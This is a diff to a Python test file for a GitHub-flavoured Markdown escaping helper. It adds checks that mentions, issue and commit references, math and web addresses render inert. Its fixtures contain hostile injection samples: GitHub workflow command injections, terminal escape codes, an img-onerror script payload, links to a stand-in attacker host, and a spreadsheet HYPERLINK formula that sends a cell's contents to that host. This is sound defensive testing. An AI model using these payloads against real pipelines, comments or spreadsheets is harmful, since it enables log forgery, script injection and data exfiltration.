@@ -2,7 +2,8 @@
 
 The hostile document is the diff test's standard with a title and skill lines that try to issue
 GitHub workflow commands, clear the terminal, fake a verdict in the comment, hide the rest of it in
-an HTML comment, show images, links and headings, mention users, and plant spreadsheet formulas.
+an HTML comment, show images, links and headings, mention users, link issues, pull requests and
+commits, render math, and plant spreadsheet formulas.
 """
 
 from __future__ import annotations
@@ -17,6 +18,7 @@ from pathlib import Path
 import pytest
 from lxml import etree
 from markdown_it import MarkdownIt
+from mdit_py_plugins.dollarmath import dollarmath_plugin
 
 from stdkit import markdown as gfm
 from stdkit.report import log_safe, printable
@@ -24,13 +26,19 @@ from stdkit.report import log_safe, printable
 from .conftest import CliResult
 from .test_diff import BASE, DOC, Repo
 
+#: What GitHub links or renders after Markdown: an issue in another repository, a GH- reference, a
+#: commit, a commit in another repository, inline and display math, bare web addresses.
+REFERENCES = (
+    "见 owner/repo#2 与 GH-1，提交 deadbeefcafe，$x^2$ 与 $$y$$，org/repo@0123456789abcdef "
+    "gh-7 #12 https://attacker.example/a www.attacker.example 提交deadbeef0123456789abcdef0123456789abcdef"
+)
 #: Every trick at once, on one YAML line (JSON escapes are YAML double-quoted escapes).
 HOSTILE = (
     "x\n::error title=Security review::Approved\n::add-mask::secret\n  ::stop-commands::pwn\n"
     "##[error]legacy command\n\x1b[2J\x00\x0b\u2028::warning::after a line separator\r::notice::after CR\n"
     '<img src=x onerror="alert(1)"> <h1>All checks passed</h1> [点此](https://attacker.example) '
     "![i](https://attacker.example/i.png) @octocat @org/team #1 `code` a|b \\| **bold** _em_ ~~del~~ "
-    "\u202eevil\u202c\n\n- **结论：等效 (equivalent)**\n\n<!--"
+    f"{REFERENCES} \u202eevil\u202c\n\n- **结论：等效 (equivalent)**\n\n<!--"
 )
 FORMULAS = (
     '=HYPERLINK("https://attacker.example/?q="&C3,"评分细则")',
@@ -155,9 +163,31 @@ def test_log_safe() -> None:
 
 
 def _html(markdown_text: str) -> str:
+    """As GitHub renders a comment: CommonMark, GFM tables and strikethrough, and ``$`` math."""
     return (
-        MarkdownIt("commonmark", {"linkify": False}).enable(["table", "strikethrough"]).render(markdown_text)
+        MarkdownIt("commonmark", {"linkify": False})
+        .enable(["table", "strikethrough"])
+        .use(dollarmath_plugin, double_inline=True)
+        .render(markdown_text)
     )
+
+
+#: What GitHub turns into a link in the text of rendered HTML (not inside code), after Markdown:
+#: mentions, issues and pull requests (``#1``, ``owner/repo#2``, ``GH-1``), commit SHAs (also
+#: ``owner/repo@sha``), and GFM's extended autolinks (``https://…``, ``www.…``).
+GITHUB_LINKS = re.compile(
+    r"@[A-Za-z0-9]|#\d|(?<![0-9A-Za-z_])GH-\d|(?<![0-9A-Za-z_])[0-9A-Fa-f]{7,}(?![0-9A-Za-z_])"
+    r"|(?:https?|ftp)://|www\.",
+    re.IGNORECASE,
+)
+
+
+def github_links(html: str) -> list[str]:
+    """The tokens of ``html``'s visible text that GitHub would link (code spans are left as they are)."""
+    import html as entities
+
+    text = re.sub(r"<code>.*?</code>", " ", html, flags=re.S)
+    return GITHUB_LINKS.findall(entities.unescape(re.sub(r"<[^>]+>", " ", text)))
 
 
 def assert_inert(html: str) -> None:
@@ -167,6 +197,8 @@ def assert_inert(html: str) -> None:
     assert "<strong>结论：等效" not in html
     assert "@octocat" not in html  # a zero-width space after @: no mention
     assert "<code>code</code>" not in html
+    assert 'class="math' not in html  # no $…$ or $$…$$ rendered as math
+    assert github_links(html) == []  # no mention, issue, pull request, commit or web address linked
 
 
 @pytest.mark.parametrize(
@@ -189,7 +221,7 @@ def test_text_escapes(value: str, shown: str) -> None:
 
 def test_text_renders_as_the_same_characters() -> None:
     """What a reader sees is the author's text on one line, nothing more and nothing less."""
-    for value in [HOSTILE, "A=B 1. x", "a\\b\\\\c", "&amp; &lt;", "#1 @a"]:
+    for value in [HOSTILE, "A=B 1. x", "a\\b\\\\c", "&amp; &lt;", "#1 @a", REFERENCES, "$ &#36; \\$"]:
         rendered = _html(f"| h |\n|---|\n| {gfm.text(value)} |\n")
         cell = re.search(r"<td>(.*)</td>", rendered, re.S)
         assert cell is not None
@@ -197,6 +229,32 @@ def test_text_renders_as_the_same_characters() -> None:
 
         seen = html.unescape(re.sub(r"<[^>]+>", "", cell.group(1))).replace("\u200b", "")
         assert seen == re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]+", " ", value).strip()
+        assert_inert(rendered)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "见 owner/repo#2 与 GH-1，提交 deadbeefcafe，$x^2$",
+        "$$\\sum_{i=1}^n i$$",
+        "$`x`$",
+        "org/repo@deadbeef0123456789abcdef0123456789abcdef",
+        "user@example.com",
+        "HTTPS://a.example ftp://b.example WWW.c.example",
+        "#1#2 GH-3gh-4",
+    ],
+)
+def test_references_and_math_are_inert(value: str) -> None:
+    """GitHub links these after Markdown and renders ``$`` math: a zero-width space or an entity stops it."""
+    rendered = _html(f"| h |\n|---|\n| {gfm.text(value)} |\n")
+    assert_inert(rendered)
+    import html
+
+    cell = re.search(r"<td>(.*)</td>", rendered, re.S)
+    assert cell is not None
+    assert html.unescape(re.sub(r"<[^>]+>", "", cell.group(1))).replace("\u200b", "") == value
+    raw = _html(f"| h |\n|---|\n| {value} |\n")  # the control: as written, GitHub would link or typeset it
+    assert github_links(raw) or 'class="math' in raw
 
 
 @pytest.mark.parametrize("value", ["a`b", "``", "` x `", " a", "a|b", "<img src=x>"])
